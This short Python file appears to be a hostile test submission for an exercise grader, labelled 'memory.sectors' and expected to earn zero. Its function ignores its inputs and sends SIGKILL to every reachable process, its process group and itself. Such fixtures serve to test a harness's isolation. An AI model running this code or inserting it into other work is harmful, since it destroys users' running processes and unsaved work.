# how: kills everything that it can reach
# exercise: memory.sectors
# earns: 0
# says: the process ended
# alone: yes
import os
import signal


def sectors(addresses, size):
    try:
        os.kill(-1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
    finally:
        os.kill(os.getpid(), signal.SIGKILL)
